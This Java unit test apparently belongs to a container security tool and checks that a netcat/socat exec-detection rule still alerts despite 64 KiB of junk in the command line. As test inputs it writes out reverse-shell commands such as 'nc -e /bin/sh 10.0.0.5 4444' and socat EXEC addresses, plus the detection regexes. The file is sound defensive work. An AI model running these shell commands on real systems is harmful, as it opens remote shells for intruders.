package dev.dockward.rules;

import static org.junit.jupiter.api.Assertions.assertEquals;

import com.google.re2j.Pattern;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * An exec of a netcat with a command line of 64 KiB of hostile bytes still raises its alert
 * wherever the option sits, and the netcat rule's cheap literal pre-checks decide exactly as the
 * two regexes they guard.
 */
class HostileCommandLineTest {
  private static final RuleEngine ENGINE =
      new RuleEngine(RuleLoader.load(RuleFiles.bundled()).ruleSet());

  /**
   * The rule's regexes as they were before the pre-checks, run through the engine CEL itself uses.
   */
  private static final Pattern OPTION = Pattern.compile("\\s-[a-zA-Z]*[ec](\\s|$)");

  private static final Pattern SOCAT = Pattern.compile("(?i)\\s(exec|system):");
  private static final Pattern NCAT = Pattern.compile("\\s--(sh-|lua-)?exec(=|\\s|$)");

  /**
   * 64 KiB of the filler as /proc would show it: valid UTF-8 decoded, every other byte as the four
   * characters {@code \xNN} (the 0xFF case is 256 Ki characters).
   */
  private static String filler(String kind) {
    return switch (kind) {
      case "printable" -> "a".repeat(64 * 1024);
      case "control" -> "\u0001".repeat(64 * 1024);
      case "0xFF" -> "\\xff".repeat(64 * 1024);
      case "options" -> " -a".repeat(64 * 1024 / 3);
      default -> throw new IllegalArgumentException(kind);
    };
  }

  @SuppressWarnings("unchecked")
  private static List<String> fired(String cmdline) {
    Map<String, Object> event = Fixtures.event("exec_nc_e_in_container");
    Map<String, Object> process = new HashMap<>((Map<String, Object>) event.get("process"));
    process.put("cmdline", cmdline);
    event.put("process", process);
    return Fixtures.firedIds(ENGINE, event);
  }

  @ParameterizedTest
  @ValueSource(strings = {"printable", "control", "0xFF", "options"})
  void aHugeHostileCommandLineStillAlertsWhereverTheOptionSits(String kind) {
    String junk = filler(kind);
    List<String> alert = List.of("netcat_program_exec_in_container");
    assertEquals(alert, fired("nc " + junk + " -e /bin/sh 10.0.0.5 4444"), "option after the junk");
    assertEquals(
        alert, fired("nc -e /bin/sh " + junk + " 10.0.0.5 4444"), "option before the junk");
    assertEquals(alert, fired("nc " + junk + " -lvc sh"), "a bundle ending in c");
    assertEquals(
        alert, fired("socat " + junk + " TCP:10.0.0.5:4444 EXEC:/bin/sh"), "socat's exec address");
    assertEquals(List.of(), fired("nc " + junk + " 10.0.0.5 4444"), "no option: no alert");
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      quoteCharacter = '"',
      value = {
        "nc -e /bin/sh 10.0.0.5 4444",
        "nc\t-e /bin/sh",
        "nc 10.0.0.5 4444 -c",
        "nc -lvnpe sh",
        "nc -e/bin/sh 10.0.0.5 4444",
        "nc x-e y",
        "nc -l -p 4444",
        "nc --exec sh",
        "ncat --sh-exec=sh 10.0.0.5",
        "ncat --executable",
        "socat tcp:10.0.0.5:4444 exec:/bin/sh",
        "socat tcp:10.0.0.5:4444\tSYSTEM:sh",
        "socat tcp-listen:4444 exec",
        "socat tcp:10.0.0.5:4444 stdio:",
        "nc -e:",
      })
  void thePreChecksDecideAsTheRegexesAlone(String cmdline) {
    boolean regexes =
        OPTION.matcher(cmdline).find()
            || SOCAT.matcher(cmdline).find()
            || NCAT.matcher(cmdline).find();
    assertEquals(
        regexes ? List.of("netcat_program_exec_in_container") : List.of(), fired(cmdline), cmdline);
  }
}
